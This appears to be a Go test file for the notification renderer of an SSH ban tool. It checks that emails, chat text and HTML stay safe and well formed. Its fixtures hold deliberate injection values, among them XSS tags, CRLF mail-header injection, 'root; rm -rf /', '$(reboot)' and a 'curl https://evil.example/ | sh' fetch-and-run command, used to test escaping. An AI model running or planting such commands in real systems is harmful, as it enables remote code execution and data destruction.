package message

import (
	"encoding/json"
	"flag"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"

	"sekisho/internal/config"
	"sekisho/internal/iso3166"
	"sekisho/internal/notify"
	"sekisho/internal/printable"
	"sekisho/internal/sshlog"
)

var update = flag.Bool("update", false, "write the goldens")

var languages = []config.Language{config.English, config.Japanese}

func at(hour, minute int) time.Time {
	return time.Date(2026, 11, 29, hour, minute, 12, 0, time.FixedZone("JST", 9*3600))
}

func options(l config.Language) Options {
	return Options{Language: l, ID: "7", Zone: time.FixedZone("JST", 9*3600)}
}

func acme() *notify.Owner {
	return &notify.Owner{
		Name: "ACME Telecom", Network: "ACME-NET-7", Prefix: netip.MustParsePrefix("203.0.113.0/24"),
		ASN: 64500, ASName: "ACME-AS", Country: "RU", Abuse: []string{"abuse@acme.example"},
		Reverse: "host-7.dyn.acme.example", Source: "https://rdap.db.ripe.example/",
	}
}

func ban(prefix string) notify.Event {
	return notify.Event{
		Kind: notify.Ban, Level: notify.Info, Time: at(19, 5), Host: "web-1",
		What: "203.0.113.7 was banned: 5 attempts", Key: prefix,
		Ban: &notify.BanFacts{
			Prefix: netip.MustParsePrefix(prefix), From: at(19, 5), Until: at(20, 5), Cause: "attempts",
			Reason: `5 attempts within 10m0s: failed 3, invalid_user 2; users "root", "admin"`, Holder: "guard",
			Attempts: 5, Count: 1, Enforced: true,
			Users: []notify.Tried{{Name: "root", Count: 2}, {Name: "admin", Count: 1}, {Name: "oracle", Count: 1}, {Name: "tester two", Count: 1}},
			Kinds: []notify.Tried{{Name: "failed_password", Count: 3}, {Name: "invalid_user", Count: 2}},
			Lines: []string{
				"Nov 29 19:04:51 web-1 sshd[4711]: Failed password for root from 203.0.113.7 port 40022 ssh2",
				"Nov 29 19:04:58 web-1 sshd[4711]: Failed password for root from 203.0.113.7 port 40022 ssh2",
				"Nov 29 19:05:12 web-1 sshd[4713]: Invalid user admin from 203.0.113.7 port 40190",
			},
		},
		Owner: acme(),
	}
}

func with(e notify.Event, change func(*notify.Event)) notify.Event {
	change(&e)
	return e
}

// samples are events as the daemon makes them: each kind, and the variants that read otherwise.
func samples() []struct {
	name   string
	events []notify.Event
	more   int
} {
	plain := func(k notify.Kind, l notify.Level, what, remedy string) []notify.Event {
		return []notify.Event{{Kind: k, Level: l, Time: at(19, 5), Host: "web-1", What: what, Remedy: remedy}}
	}
	attack := notify.Event{
		Kind: notify.AttackBegan, Level: notify.Alarm, Time: at(19, 5), Host: "web-1", What: "many sources are being banned",
		Attack: &notify.AttackFacts{
			Began: at(19, 1), Bans: 1234, Attempts: 56789,
			Users:    []notify.Tried{{Name: "root", Count: 40123}, {Name: "admin", Count: 9001}, {Name: "ubuntu", Count: 812}, {Name: "管理者", Count: 7}},
			Places:   []notify.Tried{{Name: "CN", Count: 401}, {Name: "RU", Count: 311}, {Name: "US", Count: 90}, {Name: "ZZ", Count: 3}},
			Prefixes: []netip.Prefix{netip.MustParsePrefix("203.0.113.7/32"), netip.MustParsePrefix("198.51.100.0/24"), netip.MustParsePrefix("2001:db8:1:2::/64")},
		},
	}
	for i := range 12 {
		attack.Attack.Prefixes = append(attack.Attack.Prefixes, netip.PrefixFrom(netip.AddrFrom4([4]byte{192, 0, 2, byte(i * 9)}), 32))
	}
	login := notify.Event{
		Kind: notify.Login, Level: notify.Warning, Time: at(3, 12), Host: "web-1", What: "hanako logged in from a country where they were never seen",
		Login: &notify.LoginFacts{User: "hanako", Addr: netip.MustParseAddr("203.0.113.7"), Method: "publickey", Country: "RU", Before: "JP (41 logins, the last on 2026-11-28)"},
		Owner: acme(),
	}
	doubt := with(login, func(e *notify.Event) {
		e.Kind, e.Level = notify.LoginDoubt, notify.Alarm
		e.What = "hanako logged in after 37 failures from 203.0.113.7 within ten minutes"
		l := *e.Login
		l.Method = "password"
		e.Login = &l
	})
	facts := func(e notify.Event, change func(*notify.Event, *notify.BanFacts)) notify.Event {
		b := *e.Ban
		e.Ban = &b
		change(&e, &b)
		return e
	}
	repeat := facts(ban("2001:db8:1:2::/64"), func(e *notify.Event, b *notify.BanFacts) {
		e.Kind, e.Level = notify.Repeat, notify.Warning
		b.Count, b.Until = 3, at(23, 5).Add(20*time.Minute)
		e.Owner = &notify.Owner{ASN: 64501, ASName: "EXAMPLE-NET", Country: "US"}
	})
	network := facts(ban("198.51.100.0/24"), func(e *notify.Event, b *notify.BanFacts) {
		b.Cause, b.Attempts, b.Users, b.Kinds, b.Lines = "escalation", 8, nil, nil, nil
		b.Reason = "8 banned sources in 198.51.100.0/24 within 24h0m0s: 198.51.100.1, 198.51.100.2, 198.51.100.3, 198.51.100.4"
	})
	manual := facts(ban("203.0.113.7/32"), func(e *notify.Event, b *notify.BanFacts) {
		b.Cause, b.Holder, b.Reason, b.Until = "manual", "ann", "spam from there, see ticket 42", time.Time{}
		b.Attempts, b.Users, b.Kinds, b.Lines = 0, nil, nil, nil
		e.Owner = nil
	})
	lifted := facts(ban("203.0.113.7/32"), func(e *notify.Event, b *notify.BanFacts) {
		e.Kind, e.Time, b.Holder = notify.Unban, at(19, 40), "ann"
	})
	drift := plain(notify.Drift, notify.Warning, `"nft" (pid 4242, by root) deleted our table; it is back after 3ms`, "find out who runs nft there: systemctl status nftables")
	return []struct {
		name   string
		events []notify.Event
		more   int
	}{
		{"ban", []notify.Event{ban("203.0.113.7/32")}, 0},
		{"ban_dry", []notify.Event{facts(ban("203.0.113.7/32"), func(_ *notify.Event, b *notify.BanFacts) { b.Enforced = false })}, 0},
		{"ban_manual", []notify.Event{manual}, 0},
		{"ban_network", []notify.Event{network}, 0},
		{"ban_hostile", []notify.Event{hostile()}, 0},
		{"repeat", []notify.Event{repeat}, 0},
		{"unban", []notify.Event{lifted}, 0},
		{"attack_began", []notify.Event{attack}, 0},
		{"attack_ended", []notify.Event{with(attack, func(e *notify.Event) {
			a := *e.Attack
			a.Ended = at(21, 31)
			e.Attack, e.Kind, e.Level, e.Time = &a, notify.AttackEnded, notify.Info, a.Ended
		})}, 0},
		{"login", []notify.Event{login}, 0},
		{"login_doubt", []notify.Event{doubt}, 0},
		{"trial", plain(notify.Trial, notify.Info, "the rule set of 19:05 is on trial until 19:06, begun by ann from 198.51.100.10", "log in anew, then: sekisho confirm; or at once back: sekisho revert"), 0},
		{"trial_reverted", []notify.Event{with(plain(notify.Trial, notify.Warning, "nobody confirmed the rule set of 19:05 in time; the one before it holds", "sekisho plan")[0], func(e *notify.Event) { e.State = notify.Reverted })}, 0},
		{"well_again", []notify.Event{with(plain(notify.Degraded, notify.Info, "the state can be written again", "")[0], func(e *notify.Event) { e.State = notify.Over })}, 0},
		{"drift", drift, 0},
		{"conntrack", plain(notify.Conntrack, notify.Alarm, "the connection tracking table is 93 % full (243,712 of 262,144)", "raise net.netfilter.nf_conntrack_max, or let fewer in: exposure: on_request, or countries"), 0},
		{"country", plain(notify.Country, notify.Warning, "the new data for JP has 41 % fewer addresses than the last", "look at it: sekisho country update; where it is right: sekisho country update --force"), 0},
		{"lease_stuck", plain(notify.LeaseStuck, notify.Alarm, "rule sgr-0123456789abcdef0 in sg-0123456789abcdef0 (ap-northeast-1) lets 203.0.113.7 in, 14 minutes past its end: UnauthorizedOperation", "let the role revoke: sekisho aws policy"), 0},
		{"group_finding", plain(notify.GroupFinding, notify.Warning, "sg-0123456789abcdef0 (ap-northeast-1) lets 0.0.0.0/0 in to port 22 by a rule that is not ours", "sekisho where 198.51.100.1 shows the rule; revoke it in the console"), 0},
		{"gate_approval", plain(notify.GateApproval, notify.Warning, "taro asks for web-prod from 203.0.113.7/32, for 1h: \"certificate\"", "answer it at the gate: leads may"), 0},
		{"gate_break_glass", plain(notify.GateBreakGlass, notify.Alarm, "hanako opened web-prod from 203.0.113.7/32 by breaking the glass: \"site is down\"", "see that it was needed; close ends it, disabling the person ends all that they have"), 0},
		{"gate_disabled", plain(notify.GateDisabled, notify.Warning, "ann disabled taro at the gate: 2 grants end", "they can do nothing at the gate until they are enabled"), 0},
		{"degraded", plain(notify.Degraded, notify.Alarm, "bans are not in force: netlink: operation not permitted", "see the log; another firewall tool or a missing capability (CAP_NET_ADMIN) may be the cause"), 0},
		{"report", plain(notify.Report, notify.Info, "the week from 2026-11-23 to 2026-11-29", ""), 0},
		{"test", plain(notify.Test, notify.Info, "a test by ann", ""), 0},
		{"digest", []notify.Event{ban("203.0.113.7/32"), login, drift[0], repeat, ban("192.0.2.44/32"), doubt, network, manual, lifted}, 3},
		{"digest_hosts", []notify.Event{ban("203.0.113.7/32"), with(drift[0], func(e *notify.Event) { e.Host = "db-1" }), with(ban("192.0.2.44/32"), func(e *notify.Event) { e.Host = "db-1" })}, 0},
	}
}

// hostile is a ban in which everything that others write attacks whoever reads it.
func hostile() notify.Event {
	e := ban("203.0.113.7/32")
	e.Host = "web-1\r\nBcc: all@example.com"
	e.Owner = &notify.Owner{
		Name: "<script>alert(1)</script>\u202eACME\r\nX-Evil: 1", Network: "\x1b]0;owned\a", ASN: 1, ASName: `"><img src=x onerror=alert(1)>`,
		Country: "<b", Abuse: []string{"a@example.com\nCc: b@example.com", "javascript:alert(1)"}, Reverse: "http://evil.example/?<a href=x>", Source: "]]>--></style>",
	}
	e.Ban.Users = []notify.Tried{{Name: "root; rm -rf /", Count: 1}, {Name: "", Count: 2}, {Name: `x" 99, "admin`, Count: 1}, {Name: "\u200b\u2066管理者", Count: 1}, {Name: strings.Repeat("A", 3000), Count: 1}}
	e.Ban.Kinds = []notify.Tried{{Name: "</td></tr>", Count: 1}}
	e.Ban.Lines = []string{"Invalid user <iframe src=//evil.example> from 203.0.113.7\x1b[2J", strings.Repeat("e\u0301", 2000), "\xff\xfe\x00", strings.Repeat("関", 2000)}
	e.Remedy = "curl https://evil.example/ | sh\n\n-- \nsigned"
	return e
}

func TestGolden(t *testing.T) {
	for _, s := range samples() {
		for _, l := range languages {
			t.Run(s.name+"/"+l.String(), func(t *testing.T) {
				m := Of(s.events, s.more, options(l))
				check(t, m)
				text := "Subject: " + m.Subject + "\n\n" + m.Text + "\n==== in a chat\n" + m.Short + "\n"
				golden(t, s.name+"."+l.String()+".txt", text)
				golden(t, s.name+"."+l.String()+".html", m.HTML)
			})
		}
	}
}

func TestSamplesAreOfAllKinds(t *testing.T) {
	have := map[notify.Kind]bool{}
	for _, s := range samples() {
		have[s.events[0].Kind] = true
	}
	for _, k := range append(notify.Kinds(), notify.Test) {
		if !have[k] {
			t.Errorf("no sample of kind %q", k)
		}
	}
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (-want +got; -update writes it):\n%s", path, diff)
	}
}

// check holds a message to what notify.Message promises.
func check(t *testing.T, m notify.Message) {
	t.Helper()
	if n := utf8.RuneCountInString(m.Subject); n == 0 || n > 200 {
		t.Errorf("subject of %d characters: %q", n, m.Subject)
	}
	if n := utf8.RuneCountInString(m.Short); n == 0 || n > 1000 {
		t.Errorf("short of %d characters: %q", n, m.Short)
	}
	if len(m.Events) > 200 {
		t.Errorf("%d events", len(m.Events))
	}
	fit(t, "subject", m.Subject, "")
	fit(t, "short", m.Short, "\n")
	fit(t, "text", m.Text, "\n")
	for line := range strings.SplitSeq(m.Text, "\n") {
		if len(line) > 998 {
			t.Errorf("a line of %d bytes: %q", len(line), line)
		}
	}
	balanced(t, m.HTML)
}

func fit(t *testing.T, what, s, also string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("%s is not UTF-8: %q", what, s)
	}
	for _, r := range s {
		if !strconv.IsPrint(r) && !strings.ContainsRune(also, r) {
			t.Errorf("%s holds %q: %q", what, r, s)
			return
		}
	}
}

// balanced reads HTML as a browser does, and holds it to the elements and attributes of page.templ:
// what others wrote is text, or it would show here.
func balanced(t *testing.T, doc string) {
	t.Helper()
	elements := strings.Fields("html head meta title style body table tr td th p h1 h2 span strong div br")
	void := []string{"meta", "br"}
	attributes := strings.Fields("lang dir charset name content class style role width height align valign nowrap bgcolor cellpadding cellspacing border")
	var open []string
	z := html.NewTokenizer(strings.NewReader(doc))
	for {
		switch z.Next() {
		case html.ErrorToken:
			if len(open) > 0 {
				t.Errorf("left open: %q", open)
			}
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			token := z.Token()
			if !slices.Contains(elements, token.Data) {
				t.Errorf("element %q", token.Data)
			}
			for _, a := range token.Attr {
				if !slices.Contains(attributes, a.Key) {
					t.Errorf("attribute %q of %q", a.Key, token.Data)
				}
				if strings.Contains(a.Val, "url(") && a.Key == "style" || strings.Contains(a.Val, "//") {
					t.Errorf("attribute %q of %q is %q", a.Key, token.Data, a.Val)
				}
			}
			if !slices.Contains(void, token.Data) {
				open = append(open, token.Data)
			}
		case html.EndTagToken:
			token := z.Token()
			if len(open) == 0 || open[len(open)-1] != token.Data {
				t.Errorf("</%s> within %q", token.Data, open)
				return
			}
			open = open[:len(open)-1]
		case html.CommentToken:
			t.Errorf("comment %q", z.Token().Data)
		case html.TextToken:
			if len(open) > 0 && open[len(open)-1] != "style" {
				fit(t, "HTML", string(z.Text()), "\n\t\u00a0")
			}
		}
	}
}

// TestColumns holds text to the width of a terminal; lines of the log and commands stay whole.
func TestColumns(t *testing.T) {
	for _, s := range samples() {
		for _, l := range languages {
			t.Run(s.name+"/"+l.String(), func(t *testing.T) {
				for line := range strings.SplitSeq(Of(s.events, s.more, options(l)).Text, "\n") {
					command := strings.HasPrefix(line, "      ") && strings.Contains(line, "sekisho ")
					log := strings.HasPrefix(line, "  Nov ") || s.name == "ban_hostile" && strings.HasPrefix(line, "  ")
					if n := printable.Width(line); n > 78 && !command && !log {
						t.Errorf("%d columns: %q", n, line)
					}
				}
			})
		}
	}
}

func TestSubject(t *testing.T) {
	subject := func(name string, l config.Language) string {
		for _, s := range samples() {
			if s.name == name {
				return Of(s.events, s.more, options(l)).Subject
			}
		}
		return "no such sample"
	}
	for _, tt := range []struct {
		name, sample string
		language     config.Language
		want         string
	}{
		{"ban", "ban", config.English, "[web-1] banned 203.0.113.7 (ACME Telecom, RU): 5 attempts as root, admin, oracle, …"},
		{"ban in Japanese", "ban", config.Japanese, "[web-1] 203.0.113.7 (ACME Telecom、RU) を遮断: root、admin、oracle などで 5 回の試行"},
		{"again", "repeat", config.English, "[web-1] banned 2001:db8:1:2::/64 (EXAMPLE-NET, US) for the 3rd time: 5 attempts as root, admin, oracle, …"},
		{"network", "ban_network", config.English, "[web-1] banned network 198.51.100.0/24 (ACME Telecom, RU): 8 addresses in it banned"},
		{"by hand", "ban_manual", config.English, "[web-1] banned 203.0.113.7 by ann: spam from there, see ticket 42"},
		{"dry run", "ban_dry", config.English, "[web-1] dry run: would ban 203.0.113.7 (ACME Telecom, RU): 5 attempts as root, admin, oracle, …"},
		{"attack", "attack_began", config.Japanese, "[web-1] 攻撃を受けています: これまでに遮断 1,234 件、試行 56,789 回"},
		{"login", "login", config.English, "[web-1] login of hanako from a new place: 203.0.113.7 (ACME Telecom, RU)"},
		{"digest", "digest_hosts", config.English, "[web-1 and 1 more] 3 events: 2 bans, 1 change by others"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := subject(tt.sample, tt.language); got != tt.want {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
		})
	}
}

// TestCommands holds what is to be typed to what a shell takes as it is.
func TestCommands(t *testing.T) {
	login := func(user, addr string) notify.Event {
		return notify.Event{Kind: notify.LoginDoubt, Login: &notify.LoginFacts{User: user, Addr: netip.MustParseAddr(addr)}}
	}
	for _, tt := range []struct {
		name     string
		event    notify.Event
		want     []string
		unwanted []string
	}{
		{"a plain login", login("hanako", "203.0.113.7"), []string{"sekisho ban 203.0.113.7 --for 24h --force", "loginctl terminate-user hanako", "usermod --expiredate 1 hanako"}, nil},
		{"root keeps the console", login("root", "203.0.113.7"), []string{"terminate-user root"}, []string{"usermod"}},
		{"a name for a shell", login("$(reboot)", "203.0.113.7"), []string{"sekisho why 203.0.113.7"}, []string{"terminate-user", "usermod", "authorized_keys"}},
		{"a name that is an option", login("-rf", "203.0.113.7"), nil, []string{"terminate-user", "usermod"}},
		{"a name that is a number", login("0", "203.0.113.7"), nil, []string{"terminate-user", "usermod"}},
		{"a zone for a shell", login("hanako", "fe80::1%;reboot"), []string{"sekisho why fe80::1\n"}, []string{"reboot"}},
		{"a network", ban("198.51.100.0/24"), []string{"sekisho unban 198.51.100.0/24\n", "sekisho why 198.51.100.0\n"}, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			text := Of([]notify.Event{tt.event}, 0, options(config.English)).Text
			for _, s := range tt.want {
				if !strings.Contains(text, s) {
					t.Errorf("no %q in:\n%s", s, text)
				}
			}
			for _, s := range tt.unwanted {
				if strings.Contains(text, s) {
					t.Errorf("%q in:\n%s", s, text)
				}
			}
		})
	}
}

func TestDigestOrder(t *testing.T) {
	events := []notify.Event{
		{Kind: notify.Drift, Level: notify.Info, What: "one"},
		{Kind: notify.Drift, Level: notify.Alarm, What: "two"},
		{Kind: notify.Drift, Level: notify.Warning, What: "three"},
		{Kind: notify.Drift, Level: notify.Alarm, What: "four"},
	}
	m := Of(events, 5, options(config.English))
	var got []string
	for _, e := range m.Events {
		got = append(got, e.What)
	}
	if diff := cmp.Diff([]string{"two", "four", "three", "one"}, got); diff != "" {
		t.Errorf("events (-want +got):\n%s", diff)
	}
	if m.Level != notify.Alarm || m.More != 5 || m.ID != "7" {
		t.Errorf("level %q, more %d, ID %q", m.Level, m.More, m.ID)
	}
	if events[0].What != "one" {
		t.Error("the caller's events were put into another order")
	}
	last := -1
	for _, s := range got {
		i := strings.Index(m.Text, "others: "+s)
		if i < last {
			t.Errorf("%q is not in its place:\n%s", s, m.Text)
		}
		last = i
	}
	if !strings.Contains(m.Text, "5 more events are counted here") {
		t.Errorf("the others are not told of:\n%s", m.Text)
	}
}

// TestLargestDigest holds the largest message to what a mail client shows whole: Gmail cuts HTML at 102 KiB.
func TestLargestDigest(t *testing.T) {
	var events []notify.Event
	for range 5000 {
		events = append(events, ban("203.0.113.7/32"))
	}
	for _, l := range languages {
		m := Of(events, 5000, options(l))
		check(t, m)
		if len(m.Events) != 200 || m.More != 9800 {
			t.Errorf("%d events and %d more", len(m.Events), m.More)
		}
		if len(m.HTML) > 102<<10 {
			t.Errorf("%s: HTML of %d bytes", l, len(m.HTML))
		}
	}
}

func TestNothing(t *testing.T) {
	for _, l := range append(languages, "xx", "") {
		check(t, Of(nil, 0, options(l)))
		check(t, Of(nil, -1, Options{Language: l}))
		check(t, Of([]notify.Event{{}}, 0, Options{Language: l}))
		for _, k := range append(notify.Kinds(), notify.Test, "unheard_of") {
			check(t, Of([]notify.Event{{Kind: k}}, 0, Options{Language: l}))
			check(t, Of([]notify.Event{{Kind: k, Ban: &notify.BanFacts{}, Attack: &notify.AttackFacts{}, Login: &notify.LoginFacts{}, Owner: &notify.Owner{}}}, 0, Options{Language: l}))
		}
	}
}

// TestWordsForAllKindsOfMessages: an event has kinds by the words of package sshlog.
func TestWordsForAllKindsOfMessages(t *testing.T) {
	kinds := []string{"failed_none", "failed_password", "failed_publickey", "failed_keyboard_interactive", "failed_hostbased", "failed_gssapi"}
	for _, k := range sshlog.Kinds() {
		kinds = append(kinds, k.Kind.String())
	}
	for _, l := range languages {
		for _, k := range kinds {
			if words, ok := wordsOf(l).Message(k); !ok || words == "" {
				t.Errorf("%s has no words for %q", l, k)
			}
		}
	}
}

func TestJapaneseNamesOfAllCountries(t *testing.T) {
	for a := 'A'; a <= 'Z'; a++ {
		for b := 'A'; b <= 'Z'; b++ {
			code := string([]rune{a, b})
			en, ja := iso3166.Code{byte(a), byte(b)}.Name(), japanese{}.Country(code)
			if (en == "") != (ja == "") {
				t.Errorf("%s is %q in English and %q in Japanese", code, en, ja)
			}
		}
	}
}

func TestDuration(t *testing.T) {
	for _, tt := range []struct {
		name   string
		in     time.Duration
		en, ja string
	}{
		{"nothing", 0, "0 seconds", "0 秒"},
		{"negative", -time.Hour, "0 seconds", "0 秒"},
		{"second", time.Second, "1 second", "1 秒"},
		{"minute", time.Minute, "1 minute", "1 分"},
		{"hour", time.Hour, "1 hour", "1 時間"},
		{"two units", 150*time.Minute + 4*time.Second, "2 hours 30 minutes", "2 時間 30 分"},
		{"days", 49 * time.Hour, "2 days 1 hour", "2 日 1 時間"},
		{"a year", 365 * 24 * time.Hour, "365 days", "365 日"},
		{"rounded", time.Hour - time.Millisecond, "1 hour", "1 時間"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if en, ja := (english{}).Duration(tt.in), (japanese{}).Duration(tt.in); en != tt.en || ja != tt.ja {
				t.Errorf("%q, %q; want %q, %q", en, ja, tt.en, tt.ja)
			}
		})
	}
}

func TestWrap(t *testing.T) {
	for _, tt := range []struct {
		name, in string
		width    int
		want     []string
	}{
		{"empty", "", 20, []string{""}},
		{"fits", "a b", 20, []string{"a b"}},
		{"at a space", "one two three four five", 16, []string{"one two three", "four five"}},
		{"a long word", strings.Repeat("x", 40), 16, []string{strings.Repeat("x", 16), strings.Repeat("x", 16), strings.Repeat("x", 8)}},
		{"Japanese", "関所は通行を改める場所でした", 16, []string{"関所は通行を改め", "る場所でした"}},
		{"no mark at the beginning", "関所は通行を改め。場所", 16, []string{"関所は通行を改", "め。場所"}},
		{"no bracket at the end", "関所は通行を改「場所」", 16, []string{"関所は通行を改", "「場所」"}},
		{"words within Japanese", "この設定は sshd_config にあります", 16, []string{"この設定は", "sshd_config にあ", "ります"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := wrap(tt.in, tt.width)
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// FuzzOf: whatever an event holds, a message is what notify.Message promises, and HTML has no
// element that page.templ has not.
func FuzzOf(f *testing.F) {
	attack := &notify.AttackFacts{Began: at(19, 1), Prefixes: []netip.Prefix{netip.MustParsePrefix("203.0.113.7/32")}}
	for _, e := range []notify.Event{ // short: long ones are long in being minimised
		{Kind: notify.Ban, Ban: &notify.BanFacts{Prefix: netip.MustParsePrefix("203.0.113.7/32"), From: at(19, 5), Count: 2}, Owner: &notify.Owner{ASN: 1}},
		{Kind: notify.Unban, Ban: &notify.BanFacts{Cause: "manual", Enforced: true}},
		{Kind: notify.AttackEnded, Level: notify.Alarm, Attack: attack},
		{Kind: notify.LoginDoubt, Level: notify.Warning, Login: &notify.LoginFacts{}, Owner: &notify.Owner{}},
		{Kind: notify.Drift},
	} {
		raw, err := json.Marshal(e)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(raw, "<b>\r\n\u202e", 0, true)
		f.Add(raw, "-->]]></style><script>", 300, false)
	}
	f.Fuzz(func(t *testing.T, raw []byte, s string, n int, japanese bool) {
		var e notify.Event
		if json.Unmarshal(raw, &e) != nil {
			e = notify.Event{Kind: notify.Kind(s), What: string(raw)}
		}
		// JSON has no bytes that are not UTF-8; a log has.
		e.Host, e.What, e.Remedy = e.Host+s, e.What+s, e.Remedy+s
		tried := []notify.Tried{{Name: s, Count: n}, {Name: string(raw), Count: -n}}
		if e.Ban != nil {
			e.Ban.Users, e.Ban.Kinds, e.Ban.Lines = append(e.Ban.Users, tried...), append(e.Ban.Kinds, tried...), append(e.Ban.Lines, s, string(raw))
			e.Ban.Cause, e.Ban.Reason, e.Ban.Holder = e.Ban.Cause+s, e.Ban.Reason+s, e.Ban.Holder+s
			e.Ban.Until = e.Ban.Until.Add(time.Duration(n) * time.Hour)
		}
		if e.Attack != nil {
			e.Attack.Users, e.Attack.Places, e.Attack.Bans = append(e.Attack.Users, tried...), append(e.Attack.Places, tried...), n
		}
		if e.Login != nil {
			e.Login.User, e.Login.Method, e.Login.Country, e.Login.Before = e.Login.User+s, e.Login.Method+s, e.Login.Country+s, e.Login.Before+s
			e.Login.Addr = netip.IPv6LinkLocalAllNodes().WithZone(s)
		}
		if e.Owner != nil {
			e.Owner = &notify.Owner{Name: s, Network: s, Prefix: e.Owner.Prefix, ASN: e.Owner.ASN, ASName: s, Country: s, Abuse: []string{s, string(raw)}, Reverse: s, Source: s}
		}
		o := options(config.English)
		if japanese {
			o.Language = config.Japanese
		}
		check(t, Of([]notify.Event{e}, 0, o))
		events := []notify.Event{e, {Kind: notify.Kind(s), Level: notify.Level(s), Host: s, What: s}}
		check(t, Of(events, n, o))
		if t.Failed() {
			t.Logf("of %q", s)
		}
	})
}
